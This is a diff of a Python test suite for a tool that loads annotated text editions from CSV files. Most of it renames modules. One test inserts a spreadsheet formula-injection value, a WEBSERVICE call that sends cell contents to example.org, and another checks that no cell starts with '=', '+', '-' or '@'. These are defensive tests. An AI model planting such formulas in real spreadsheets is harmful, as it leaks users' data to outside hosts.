@@ -11,17 +11,17 @@ from correcting import TEXT, add, change
 from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as some
 from spreadsheets import DIALECTS, WAYS, same, table, write
-from support import SLUG, edition_of
+from support import SLUG, edition_of, examples
 
-from closereading.agreement import review
+from closereading.agreement import corrections
 from closereading.common.errors import InputError, InputWarning
-from closereading.edition import corrected, loading, spreadsheet
+from closereading.edition import corrected_edition, loading, spreadsheet
 from closereading.edition.format import COLUMNS
 from closereading.workflow import annotate, begin
 
 
 def test_the_article_of_the_book_needs_no_mending():
-    assert corrected.read_edition(SLUG)[1] == []
+    assert corrected_edition.read_edition(SLUG)[1] == []
     with warnings.catch_warnings():
         warnings.simplefilter("error", InputWarning)
         loading.load(SLUG)
@@ -75,7 +75,7 @@ def test_a_formula_in_any_column_is_text(ballot_copy, name):
         changed[0][column] = '=WEBSERVICE("http://example.org/?"&A1)'
         write(ballot_copy, name, changed)
         try:
-            loaded, _ = corrected.read_edition(ballot_copy)
+            loaded, _ = corrected_edition.read_edition(ballot_copy)
         except InputError as error:
             assert "row 2: found " in str(error) and "to mend:" in str(error)
         else:
@@ -86,7 +86,7 @@ def test_dates_and_errors_in_columns_of_words_are_undone_or_named(copy):
     path = copy / "entities.csv"
     text = path.read_text(encoding="utf-8")
     path.write_text(text.replace("January 10,DATE,January 10", "10-Jan,DATE,10-Jan"), encoding="utf-8")
-    loaded, notices = corrected.read_edition(copy)
+    loaded, notices = corrected_edition.read_edition(copy)
     assert loaded.entities[loaded.entities.id == "e100"][["text", "entity"]].values.tolist() == [
         ["January 10", "January 10"]
     ]
@@ -116,7 +116,7 @@ def test_a_date_that_a_person_chose_stays(copy):
         path.read_text(encoding="utf-8").replace("January 10,DATE,January 10", "January 10,DATE,2022-01-10"),
         encoding="utf-8",
     )
-    loaded, notices = corrected.read_edition(copy)
+    loaded, notices = corrected_edition.read_edition(copy)
     assert "2022-01-10" in set(loaded.entities.entity) and notices == []
 
 
@@ -127,7 +127,7 @@ def test_load_repairs_nothing(copy):
         loading.load(copy)
     assert any(
         re.search("sentences.csv, row [0-9]+: found text .*taken: .*’", line)
-        for line in corrected.read_edition(copy)[1]
+        for line in corrected_edition.read_edition(copy)[1]
     )
 
 
@@ -179,7 +179,7 @@ def test_a_paragraph_longer_than_a_cell_may_be(tmp_path):
     assert len(rows[0]["text"]) > 131_072
     rows[0]["text"] = rows[0]["text"][:32_767]
     write(ballot_copy, "blocks", rows)
-    loaded, (line,) = corrected.read_edition(ballot_copy)
+    loaded, (line,) = corrected_edition.read_edition(ballot_copy)
     assert "the end cut off" in line and loaded.blocks.text.iloc[0] == loaded.raw.strip()
 
 
@@ -192,7 +192,7 @@ def table_of(path):
 CURLY = str.maketrans("“”‘’—–…", "\"\"''--\x00")
 
 
-@settings(max_examples=25, deadline=None, suppress_health_check=list(HealthCheck))
+@settings(max_examples=examples(25), deadline=None, suppress_health_check=list(HealthCheck))
 @given(
     some.lists(
         some.sampled_from(
@@ -236,7 +236,7 @@ def test_a_row_is_found_by_its_sentence_and_words(folder):
     keep = [row for row in table(folder, "entities") if row["sentence"] != "s3"]
     write(folder, "entities", keep)
     add(folder, "entities", **NEW | {"sentence": "s3", "text": " Anna "})
-    loaded, notices = corrected.read_edition(folder)
+    loaded, notices = corrected_edition.read_edition(folder)
     row = loaded.entities.set_index("id").loc["e99"]
     assert (
         notices == [] and loaded.raw[row.start : row.end] == row.text == "Anna" and row.start == TEXT.index("Anna had")
@@ -269,7 +269,7 @@ def test_words_that_a_spreadsheet_changed_are_found(folder, text, words):
         with pytest.raises(InputError, match="arguments.csv, row .*'2000 tons', which is not in sentence s3"):
             edition_of(folder)
     else:
-        loaded, (line,) = corrected.read_edition(folder)
+        loaded, (line,) = corrected_edition.read_edition(folder)
         assert loaded.arguments.set_index("id").text["a99"] == words
         assert f"arguments.csv, row {number}: found text" in line and words in line
 
@@ -325,9 +325,9 @@ def test_all_faults_are_said_at_once(folder):
 
 def test_offsets_win_over_the_sentence(folder):
     change(folder, "entities", "e1", sentence="s5")
-    loaded, (line,) = corrected.read_edition(folder)
+    loaded, (line,) = corrected_edition.read_edition(folder)
     assert "sentence 's5', in which" in line and "taken: start and end" in line
-    assert review.changes(loaded, review.machine_version(folder)).empty
+    assert corrections.changes(loaded, corrections.machine_version(folder)).empty
 
 
 def test_only_three_tables_have_a_sentence(folder):
@@ -342,8 +342,8 @@ def test_names_that_a_spreadsheet_would_run_stay_names(tmp_path, name):
     path = tmp_path / "name.txt"
     path.write_text(f"{name} said that it rained. Anna said that “{name} left”.", encoding="utf-8")
     folder = begin.begin(path)
-    loaded, notices = corrected.read_edition(folder)
-    assert notices == [] and review.changes(loaded, review.machine_version(folder)).empty
+    loaded, notices = corrected_edition.read_edition(folder)
+    assert notices == [] and corrections.changes(loaded, corrections.machine_version(folder)).empty
     for one in folder.glob("*.csv"):
         for row in csv.DictReader(one.open(encoding="utf-8-sig", newline="")):
             assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row.values()), row
